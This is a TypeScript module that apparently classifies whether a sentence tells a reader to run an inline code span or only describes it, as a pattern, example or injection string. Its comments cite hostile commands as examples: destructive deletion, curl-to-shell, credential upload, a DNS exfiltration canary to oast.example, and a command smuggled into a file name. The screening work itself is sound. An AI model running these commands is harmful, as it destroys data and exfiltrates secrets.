import { oncePerText } from '../rules/once-per-text.js';
import { DECODES_TO, OUTPUT_LEAD } from './span-lead-words.js';
/**
 * How a sentence holds an inline code span: as a command it gives (`Run \`rm -rf ~\` now`), as a
 * name in a list, or as the subject of a statement about the command (`` `setenforce 0` turns
 * SELinux off ``). Read from the sentence's grammar only; headings and the author's framing change nothing.
 */

/** A verb that makes the inline code after it a command to run ("Run `rm -rf ~` now"), not a name in a list. */
export const RUN_VERB =
  /(?<!\b(?:that|which|who)\s{1,4}(?:[a-z]{2,20}\s{1,4}(?:and|or)\s{1,4})?)\b(?:run|runs|execute|type|paste|enter|invoke|call|use|issue|launch|start|do)\b/i;

const SENTENCE_END = new Set(['.', '!', '?'].map((c) => c.charCodeAt(0)));
const BACKTICK = 96;
/** A period that ends an abbreviation ("e.g.", "i.e.", "etc.", "vs."), not a sentence. */
const ABBREVIATION = /(?:^|[\s(])(?:e\.g|i\.e|etc|vs|cf|incl|approx|esp)\.$/i;

/**
 * The text of the sentence before `at` (back to a sentence end, a blank line or a list marker). A sentence ends at
 * `.`, `!` or `?` followed by a space (after closing emphasis or quotes), outside code spans: `Net.WebClient` or
 * `DownloadString(...)` in a span end nothing.
 */
function sentenceBefore(text: string, at: number): string {
  const from = Math.max(0, at - 600);
  const before = text.slice(from, at);
  const blank = before.lastIndexOf('\n\n');
  // The last sentence end, found backwards: a pattern anchored at the end would be tried from every offset.
  // The opening backtick of the span being read is not the end of another span.
  let end = before.charCodeAt(before.length - 1) === BACKTICK ? before.length - 1 : before.length;
  let inSpan = false;
  for (; end > 0; end--) {
    const c = before.charCodeAt(end - 1);
    if (c === BACKTICK) inSpan = !inSpan;
    else if (
      !inSpan &&
      SENTENCE_END.has(c) &&
      /^[*_"')\]\u201d]{0,3}(?:\s|$)/.test(before.slice(end, end + 4)) &&
      !ABBREVIATION.test(before.slice(Math.max(0, end - 8), end))
    )
      break;
  }
  const sentence = before.slice(Math.max(end, blank < 0 ? 0 : blank + 2, afterHeading(before)));
  // A list item starts a sentence of its own, and so does a parenthesis of examples ("(e.g. `env`, `docker inspect`").
  const item = sentence.search(/\n[ \t>]*(?:[-*+]|\d{1,3}[.)])[ \t][^\n]*$/);
  const rest = item < 0 ? sentence : sentence.slice(item + 1);
  const examples = /\((?:e\.g\.|i\.e\.|for\s{1,4}example|such\s{1,4}as|like|including)[,:]?\s{0,4}(?=[^()]*$)/i.exec(rest);
  return examples ? rest.slice(examples.index + examples[0].length) : rest;
}

const HEADING_LINE = /^[ \t]{0,3}(?:#{1,6}[ \t][^\n]*|`{3,}[^\n]*|~{3,}[^\n]*)\n/gm;

/** Where the text after the last heading or fence line of `text` starts (0 when it has none): neither is part of a sentence. */
function afterHeading(text: string): number {
  if (!text.includes('#') && !text.includes('```') && !text.includes('~~~')) return 0;
  let after = 0;
  HEADING_LINE.lastIndex = 0;
  for (let m = HEADING_LINE.exec(text); m; m = HEADING_LINE.exec(text)) after = m.index + m[0].length;
  return after;
}

/** A short noun phrase that introduces spans as its examples ("Hits like", "Commands such as"). */
const NAMED_AS_EXAMPLES = /^(?:[A-Za-z][\w-]{0,30}\s{1,4}){1,3}(?:like|such\s{1,4}as)\s{1,4}/i;

/** The marker a list item opens with (`- `, `2. `, `> `): not a word of its sentence. */
const LIST_MARKER = /^[\s>]*(?:[-*+]|\d{1,3}[.)])?\s*/;

/** Code spans and what joins them in a list (`` `a`, `b` or `c` ``), emphasis and quotes. */
const SPAN_LIST = /^(?:[\s*_"\u201c\u201d,/]|`[^`\n]{0,200}`|\b(?:or|and|nor)\b)*$/i;

/**
 * What follows a subject in a statement: a linking or modal verb, or a verb in the third person
 * followed by what it acts on ("`setenforce 0` turns off SELinux", "`chmod 777` \"fixes\" the error").
 */
const STATEMENT_VERB =
  /^[\s*_]{0,4}(?:["\u201c]?(?:is|are|was|were|would|will|can|could|may|might|does|has|have|only|just|also|merely|simply|mean|indicate|suggest|show|imply)\b|["\u201c]?[a-z]{2,20}(?:es|s)["\u201d]?\s{1,4}(?:the|a|an|any|all|every|its|it|them|your|this|that|these|those|off|on|away|out|up|down|security|protection)\b)/i;

/**
 * Whether the span whose sentence before it is `sentence` (and ending at `spanEnd`, its closing backtick
 * excluded) is the subject of a statement: nothing but other spans before it in its sentence, and a statement's
 * verb after the list of spans it belongs to. A statement about a command is not an order to run it.
 */
function subjectOfStatement(sentence: string, text: string, spanEnd: number): boolean {
  // "Hits like `…` mean …", "Lines such as `…` are …": a short noun phrase naming the spans as its examples.
  const before = sentence.replace(LIST_MARKER, '').replace(NAMED_AS_EXAMPLES, '');
  if (!SPAN_LIST.test(before)) return false;
  const after = text.slice(spanEnd + 1, spanEnd + 400);
  const rest = /^(?:[\s,/]|`[^`\n]{0,200}`|\b(?:or|and|nor)\b)*/i.exec(after)![0];
  const tail = after.slice(rest.length);
  // "`eval(atob(…))` → replace `eval` with `console.log`", "`ufw disable` in old scripts → role `firewall` enables ufw": a
  // term (and where it is found) and what to make of it, unless what it maps to is running it.
  const arrow = /^[^\n.!?:;\u2192]{0,60}?(?:\u2192|->|=>|\u21d2)/.exec(tail);
  if (arrow && arrow[0].trim().split(/\s+/).length <= 8)
    return !/^\s{0,4}(?:installs?|sets?\s{1,4}up|runs?|bootstraps?|setup|executes?)\b/i.test(tail.slice(arrow[0].length));
  // "Strings like `rm -rf /` inside them are patterns to match": where the spans are found, then the statement.
  return STATEMENT_VERB.test(tail.replace(WHERE_FOUND, ''));
}

/** A short phrase that says where the spans of a statement's subject are found ("inside them", "in old scripts"). */
const WHERE_FOUND =
  /^\s{0,4}(?:in|inside|within|from|under)\s{1,4}(?:(?:the|these|those|such|old|our|your)\s{1,4})?[\w./-]{1,40}\s{1,4}(?=\S)/i;

/**
 * Verbs in the third person that say what something does ("disables AV", "clears event logs"), or what attackers do
 * ("attackers often append `eval "$(… | base64 -d)"`"): a description of behaviour.
 */
const DOES =
  /^[\s*_>-]{0,8}(?:(?:the\s{1,4})?(?:attackers?|adversar(?:y|ies)|malware|threat\s{1,4}actors?|intruders?|implants?|droppers?)\s{1,4}(?:[a-z]{1,12}\s{1,4}){0,2}(?:append|add|drop|plant|install|hide|use|run|write|set|create|schedule)\b|(?:(?:it|this|that|they|which|then|also|often|usually|typically|commonly|first)\s{1,4}){0,2}(?:disables|turns\s{1,4}off|shuts\s{1,4}(?:off|down)|switches\s{1,4}off|clears|deletes|removes|wipes|encrypts|kills|stops|drops|dumps|steals|exfiltrates|harvests|escalates|hides|tampers\s{1,4}with|modifies|spawns|adds|creates|grants|opens|overwrites|truncates|uploads|sends|posts|beacons|persists|injects|enumerates|abuses|evades|bypasses|masquerades|exports|copies|schedules|registers)\b)/i;

/**
 * A clause that reports what happened ("an incident started with a CI step that ran `curl … | bash`", "then persisted via
 * a crontab line `…`"): a past event recounted, the command as it was seen.
 */
const PAST_EVENT =
  /\b(?:ran|was\s{1,4}run|were\s{1,4}run|had\s{1,4}run|executed|was\s{1,4}executed|invoked|fetched|downloaded|dropped|planted|appended|persisted|spawned)\b[^.;:!?]{0,60}$/i;

/** An order to look for something, not to do it: what follows is a pattern searched for. */
const AUDIT_VERB =
  /(?:^|[\s*_>(-])(?:flag|flags|find|look\s{1,4}for|search\s{1,4}for|grep\s{1,4}for|scan\s{1,4}for|detect|report|check\s{1,4}for|watch\s{1,4}for|alert\s{1,4}on|highlight|count|catch|spot)\s{1,4}(?:(?:any|every|all|each|the|a|an|lines?|entries|uses?\s{1,4}of|occurrences?\s{1,4}of|instances?\s{1,4}of)\s{1,4}){0,3}$/i;

/** "Read `history-hits.txt` (grep hits only) for `a`, `b`": a text to go through for what the spans name. */
const READ_THROUGH_FOR =
  /(?:^|[\s*_>(-])(?:read|scan|search|grep|inspect|review|audit|examine|check|go\s{1,4}through)\s{1,4}[^.!?\n]{1,200}?\s(?:for|looking\s{1,4}for)\s{0,4}$/i;

/** The clause of a sentence that ends at a span, up to the span: after the last comma, dash, colon, parenthesis or list marker. */
function clauseOf(sentence: string): string {
  // A span on the line after its clause ("— attackers often append⏎  `eval …`") belongs to that clause.
  const words = sentence.trimEnd();
  const cut = Math.max(
    words.lastIndexOf(','),
    words.lastIndexOf(';'),
    words.lastIndexOf(':'),
    words.lastIndexOf('\u2013'),
    words.lastIndexOf('\u2014'),
    words.lastIndexOf(' - '),
    words.lastIndexOf('\n'),
  );
  return sentence.slice(cut + 1);
}

/** How a sentence holds one inline code span, read once per span. */
export interface SpanReading {
  /** The words before the span tell the reader to run it ("Run `rm -rf ~` now"). */
  toldToRun: boolean;
  /**
   * The sentence talks about the span's command rather than ordering it: the command is the subject of a
   * statement, the object of a verb that says what something does ("– disables AV (`Set-MpPreference …`)"),
   * or what an order tells the reader to look for ("Flag any `NOPASSWD: ALL` line").
   */
  described: boolean;
  /** Where the list of code spans this span ends starts (`` `a`, `b`, `this` ``): what governs the first governs them all. */
  listFrom: number;
}

/**
 * A span that is one name — a path or an address — with a command substitution glued inside it
 * (`.github/workflows/x$(curl -s a.sh|sh).yml`, `https://github.com/o/r$(…)`): what a hostile file or
 * ref name looks like. The reader is shown a name, not given a command; the substitution runs only if
 * something later expands the name unquoted, which is what such text warns about.
 */
const NAME_WITH_SUBSTITUTION = /^(?<name>[\w.~/:@+%-]{1,300})\$\([^()`\n]{1,400}\)[\w.~/:@+%-]{0,300}$/;

function nameWithSubstitution(span: string): boolean {
  const name = NAME_WITH_SUBSTITUTION.exec(span)?.groups?.name;
  return name !== undefined && /[/.]/.test(name);
}

/** Where the list of code spans that ends `sentence` starts (`` `a`, `b` to c, or `d`, ``), walked back from its end. */
function spanListStart(sentence: string): number {
  let at = sentence.length;
  for (;;) {
    while (at > 0 && /[\s,/]/.test(sentence[at - 1]!)) at--;
    if (sentence[at - 1] === '`') {
      const open = sentence.lastIndexOf('`', at - 2);
      if (open < 0 || sentence.slice(open, at).includes('\n')) return at;
      at = open;
    } else {
      // An item may be a span and a few words (`` `scp` to unknown hosts, ``): still one item of the list.
      const word =
        /\b(?:or|and|nor)$/i.exec(sentence.slice(Math.max(0, at - 3), at)) ??
        /(?<=`)(?:[ \t]{1,4}[\w-]{1,20}){1,4}$/.exec(sentence.slice(Math.max(0, at - 110), at));
      if (!word) return at;
      at -= word[0].length;
    }
  }
}

/**
 * A sentence that is a catalogue of names: it opens with a code span and a comma, holds three spans or more, and every
 * item is a span or a short phrase ("`crontab`, `~/.bashrc` edits, LaunchAgents, `systemctl --user enable`, …").
 * Nothing in it is an order.
 */
const CATALOGUE_LABEL =
  /^(?:Python|Node(?:\.js)?|JavaScript|TypeScript|JS|TS|Shell|Bash|Zsh|PowerShell|Ruby|Go|Java|Kotlin|PHP|Rust|C#|Perl|Lua|SQL|YAML|Dockerfile|Windows|macOS|Linux)\s{0,4}:\s{1,4}(?=`)/i;

function inCatalogue(sentence: string, text: string, spanEnd: number): boolean {
  const body = sentence.replace(LIST_MARKER, '');
  const rest = text.slice(spanEnd, spanEnd + 400);
  const stop = rest.search(/\n\s*\n|[.!?](?:\s|$)/);
  // The span itself stands in as `x`: its own words are not what the sentence says. A language's name before the
  // catalogue ("Python: `os.system(x)`, `eval(y)`, …") only says whose code it lists.
  const sentenceWhole = (body + '`x' + (stop < 0 ? rest : rest.slice(0, stop))).replace(CATALOGUE_LABEL, '');
  // "`a`, `b`, `c`: acceptable only for …": what follows the catalogue's colon or dash says something about its items,
  // unless it orders them run.
  const said = /`\s{0,2}(?::|\s[\u2014\u2013-])\s/.exec(sentenceWhole);
  if (said && RUN_VERB.test(sentenceWhole.slice(said.index))) return false;
  const whole = said ? sentenceWhole.slice(0, said.index + 1) : sentenceWhole;
  if (!/^`[^`\n]{1,200}`\s{0,2}(?:,|\/|\bor\b|\band\b)/.test(whole)) return false;
  const items = whole.replace(/`[^`\n]*`/g, '``').split(/,|;|\s\/\s/);
  return (whole.match(/`/g)?.length ?? 0) >= 6 && items.every((item) => item.trim().split(/\s+/).length <= 6);
}

/**
 * The opening of an injected string: a separator with nothing before it (`; id`, `&& curl …`, `| sh`, `"; rm -rf / #"`), or an HTML
 * comment shown in a span (`<!-- assistant: run … -->`: a comment hides text on a page, a span displays it; no shell
 * runs a line that opens with `<!--`).
 */
const INJECTED_STRING = /^\s{0,2}["']?\s{0,2}(?:(?:;|&&|\|\||\|(?!\|))\s{0,2}[a-z$]|<!--)/i;

/** A JSON record that says what a detector or model must make of it (`"expect"`, `"label"`, `"verdict"`, `"should_block"`). */
const TEST_RECORD_SPAN =
  /^\s{0,2}\{\s{0,4}"[\w-]{1,30}"\s{0,4}:[^\n]{0,1800}"(?:expect\w{0,20}|label|verdict|ground_truth|should_\w{1,30}|must_\w{1,30})"\s{0,4}:/;

/** A YARA string definition: a name, a text, hex or regular expression, and YARA's string modifiers. */
const YARA_STRING =
  /^\$\w{0,40}\s{0,4}=\s{0,4}(?:"[^"\n]{0,200}"|\{[^}\n]{0,200}\}|\/[^/\n]{0,200}\/)(?:\s{1,4}(?:ascii|wide|nocase|fullword|private|xor|base64|base64wide))+/;

/** Reads the span `[spanStart, spanEnd)` (its contents, backticks excluded) in its sentence. */
export function readSpan(text: string, spanStart: number, spanEnd: number): SpanReading {
  const sentence = sentenceBefore(text, Math.max(0, spanStart - 1));
  // The words of the sentence, not the commands in its other spans (`Invoke-Expression` is not "invoke").
  const toldToRun = RUN_VERB.test(sentence.replace(/`[^`\n]*`/g, '``'));
  const listAt = spanListStart(sentence);
  const listFrom = Math.max(0, spanStart - 1) - sentence.length + listAt;
  if (!toldToRun && nameWithSubstitution(text.slice(spanStart, spanEnd))) return { toldToRun, described: true, listFrom };
  // `$s = "iex (iwr" ascii wide nocase`: a YARA rule's string, a pattern it matches in files.
  if (YARA_STRING.test(text.slice(spanStart, Math.min(spanEnd, spanStart + 400)))) return { toldToRun: false, described: true, listFrom };
  // "Injection proofs use a canary: `; nslookup $(whoami).oast.example`": a span that opens with a command separator is
  // an injection string typed into someone's input (a shell refuses it as a command line), whatever the verb before it.
  if (INJECTED_STRING.test(text.slice(spanStart, Math.min(spanEnd, spanStart + 8)))) return { toldToRun: false, described: true, listFrom };
  // `{"cmd": "curl … | bash", "expect": ["curl_pipe_shell"]}`: a test record, shown with what a rule must make of it.
  if (TEST_RECORD_SPAN.test(text.slice(spanStart, Math.min(spanEnd, spanStart + 2000))))
    return { toldToRun: false, described: true, listFrom };
  if (subjectOfStatement(sentence, text, spanEnd) || (!toldToRun && inCatalogue(sentence, text, spanEnd)))
    return { toldToRun, described: true, listFrom };
  if (toldToRun) return { toldToRun, described: false, listFrom };
  const clause = clauseOf(sentence);
  const inParentheses = clause.lastIndexOf('(') > clause.lastIndexOf(')');
  const head = inParentheses ? clause.slice(0, clause.lastIndexOf('(')) : clause;
  // "Note obfuscation: `eval(atob(…))`", "Red flags: `history -c`, `rm -rf ~`": a colon after words that name what to recognise.
  const lead = sentence.slice(0, listAt).trimEnd();
  // "look for `a`, `b`,⏎`c` and `d`": the order to look for governs the whole list of spans after it.
  // "Flag entries that fetch remote code, e.g. `curl … | bash`, …": examples of what an order to look for names.
  // "Anti-forensics indicators: empty `~/.bash_history`, …": a word or two after the colon still belong to the list.
  const colonWords = lead.endsWith(':') ? null : /:\s{1,4}(?:[\w-]{1,20}\s{1,4}){0,2}[\w-]{1,20}$/.exec(lead);
  // "(The base64 above decodes to `curl … | sh`, …)": what an encoded text reads as, shown.
  if (!toldToRun && DECODES_TO.test(lead)) return { toldToRun, described: true, listFrom };
  const listed = lead.endsWith(':')
    ? AUDIT_LEAD.test(lead.slice(0, -1)) || OUTPUT_LEAD.test(lead)
    : (colonWords !== null && AUDIT_LEAD.test(lead.slice(0, colonWords.index))) ||
      AUDIT_VERB.test(clauseOf(lead) + ' ') ||
      // A file named in a span (`history.txt`) ends no sentence of the lead.
      READ_THROUGH_FOR.test(lead.replace(/`[^`\n]*`/g, '``')) ||
      (EXAMPLES_OF.test(lead) &&
        (AUDIT_START.test(sentence) || AUDIT_START.test(lead.slice(lead.lastIndexOf('\n') + 1)) || AUDIT_CLAUSE.test(lead))) ||
      examplesOfParentOrder(text, sentence, Math.max(0, spanStart - 1));
  return {
    toldToRun,
    described: listed || DOES.test(head) || PAST_EVENT.test(head) || AUDIT_VERB.test(clause.slice(0, Math.max(0, clause.length - 1)) + ' '),
    listFrom,
  };
}

/**
 * A list item of spans under a line that orders to look for what they are ("Flag code that reads a source and sends it,
 * e.g." then "- `curl -d @~/.aws/credentials …`", "- DNS tunnelling such as `nslookup …`"): each item is an example.
 */
function examplesOfParentOrder(text: string, sentence: string, at: number): boolean {
  const marker = LIST_ITEM_OPENER.exec(sentence);
  if (!marker || !SPAN_LIST.test(sentence.slice(marker[0].length).replace(NAMED_AS_EXAMPLES, ''))) return false;
  // Up past the item's siblings (list items as indented as it, and their continuation lines) to the line that leads the
  // list. A sibling read before gives its answer: a long list is walked once.
  const known = listLeads(text);
  const indent = /^[ \t>]*/.exec(sentence)![0].length;
  const first = at - sentence.length;
  let lineStart = first;
  let found = false;
  for (let steps = 0; lineStart > 0 && steps < 40; steps++) {
    const cached = known.get(`${indent}:${lineStart}`);
    if (cached !== undefined) {
      found = cached;
      break;
    }
    const previousStart = text.lastIndexOf('\n', lineStart - 2) + 1;
    const line = text.slice(previousStart, lineStart - 1);
    const own = /^[ \t>]*/.exec(line)![0].length;
    if (!line.trim()) break;
    if (own < indent || (own === indent && !LIST_ITEM_OPENER.test(line))) {
      const parent = sentenceBefore(text, previousStart + line.length);
      found = (EXAMPLES_OF.test(parent) || parent.endsWith(':')) && (AUDIT_START.test(parent) || AUDIT_LEAD.test(parent.replace(/:$/, '')));
      break;
    }
    lineStart = previousStart;
  }
  known.set(`${indent}:${first}`, found);
  return found;
}

/** A line that opens a list item: its marker and the space after it. */
const LIST_ITEM_OPENER = /^[ \t>]*(?:[-*+]|\d{1,3}[.)])[ \t]+/;

/** Per text: what the lead of the list a line belongs to says, by the line's indent and start. */
const listLeads = oncePerText((): Map<string, boolean> => new Map());

/** The end of a lead that gives what follows as examples ("…, e.g.", "such as", "like", "including"). */
const EXAMPLES_OF = /(?:\be\.g\.|\bfor\s{1,4}example|\bsuch\s{1,4}as|\blike|\bincluding)[\s,:]*$/i;
/** A sentence that opens with an order to look for something. */
const AUDIT_START =
  /^[\s>*_-]{0,8}(?:\d{1,3}[.)]\s{1,4})?(?:flag|look\s{1,4}for|report|detect|check\s{1,4}for|search\s{1,4}for|watch\s{1,4}for|note|record|spot|find|grep\s{1,4}for)\b/i;

/** The last clause of a lead, after a dash, colon or semicolon, opens with an order to look for something ("`crontab -l` — flag entries that fetch remote code, e.g."). */
const AUDIT_CLAUSE =
  /[\u2014\u2013:;]\s{0,4}(?:flag|look\s{1,4}for|report|detect|check\s{1,4}for|search\s{1,4}for|watch\s{1,4}for|note|spot|find)\b[^\u2014\u2013:;]{0,200}$/i;

/** Words before a colon that name what the spans after it are: things to notice, flags, indicators, patterns. */
const AUDIT_LEAD =
  /(?:^|[\s*_>(-])(?:note|notice|flag|look\s{1,4}for|watch\s{1,4}for|check\s{1,4}for|search\s{1,4}for|spot|recogni[sz]e|identify|red\s{1,4}flags?|indicators?|signs?|patterns?|iocs?|signatures?|tell-?tales?|sources?|sinks?)\b[^:\n]{0,40}$/i;
